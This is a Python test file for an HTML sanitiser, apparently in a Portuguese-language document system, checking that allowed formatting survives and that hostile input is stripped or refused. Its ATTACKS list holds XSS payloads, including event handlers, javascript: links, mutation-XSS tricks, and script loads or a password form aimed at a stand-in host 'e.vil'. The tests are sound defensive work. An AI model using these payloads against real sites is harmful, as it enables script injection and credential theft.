"""HTML from people: attacks that must leave nothing behind, and what a document may look like."""

from __future__ import annotations

import re
import time

import pytest

from documents.texts.sanitising import MAX_CHARACTERS, TAGS, plain, sanitise
from workflow.errors import InvalidInput

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//e.vil/x.js></sCrIpT>",
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    '<p style="background:url(https://e.vil/a)">x</p>',
    "<style>@import url(https://e.vil/a.css)</style>",
    '<img src="https://e.vil/pixel.png">',
    '<img src="x" onerror="alert(1)">',
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    '<svg onload="alert(1)"><use href="data:image/svg+xml,x#a"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//e.vil">x</a>',
    '<a href="http://e.vil">x</a>',
    '<iframe src="https://e.vil"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://e.vil"><input name="password"><button formaction="javascript:1">x</button></form>',
    '<base href="https://e.vil/"><link rel=stylesheet href="https://e.vil/a.css"><meta http-equiv=refresh content="0">',
    '<p id="csrf_token" name="body">x</p>',
    '<p class="evil modal">x</p>',
    "<!-- <script>alert(1)</script> --><p>x</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    "<p>a\x00</p><scr\x00ipt>alert(1)</scr\x00ipt>",
    '<td background="https://e.vil/x.png">x',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
)
_ALLOWED = re.compile(
    r"<(/?)([a-z0-9]+)((?: (?:class|colspan|rowspan|scope|start|type|span|rel)=\"[a-z0-9 A-Z-]*\""
    r"| href=\"(?:https://|mailto:)[^\"<>]*\")*)>"
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left(attack: str) -> None:
    clean = sanitise(f"<p>antes</p>{attack}<p>depois</p>")
    left = _ALLOWED.sub(lambda tag: "" if tag[2] in TAGS else tag[0], clean)
    assert "<" not in left, clean
    assert "alert(1)" not in re.sub(r"&lt;.*?&gt;", "", clean) or "<" not in left
    assert "evil" not in re.findall(r'class="([^"]*)"', clean)
    assert sanitise(clean) == clean


def test_what_a_document_may_look_like_stays() -> None:
    html = (
        '<h2>Título</h2><p class="align-justify first-line">Um <strong>texto</strong> <em>com</em> <u>marcas</u> '
        'e <a href="https://www.almg.gov.br/" rel="noopener noreferrer">endereço</a>.</p><ol start="3"><li><p>Item</p></li></ol>'
        '<table><tbody><tr><th colspan="2" scope="col">A</th></tr><tr><td class="width-40">b</td><td>c</td></tr></tbody></table>'
    )
    assert sanitise(html) == html


def test_a_span_of_a_billion_cells_is_brought_to_reason() -> None:
    assert 'colspan="100"' in sanitise('<table><tr><td colspan="1000000000">x</td></tr></table>')


def test_too_deep_and_too_long_are_refused_in_words() -> None:
    with pytest.raises(InvalidInput, match="Confira"):
        sanitise("<blockquote>" * 400 + "x")
    with pytest.raises(InvalidInput):
        sanitise("x" * (MAX_CHARACTERS + 1))


def test_a_hostile_text_takes_no_long_time() -> None:
    start = time.perf_counter()
    for hostile in ("<" * 100_000, "<b" * 50_000, "«" * 100_000, "&lt" * 50_000, "<p>" * 49 + "a" * 500_000):
        try:
            plain(sanitise(hostile))
        except InvalidInput:
            continue
    assert time.perf_counter() - start < 5


def test_the_words_for_the_search_keep_blocks_apart() -> None:
    html = sanitise("<div>um</div><div>dois</div><p>três<br>quatro</p><table><tr><td>a<td>b</table>")
    assert plain(html).split() == ["um", "dois", "três", "quatro", "a", "b"]
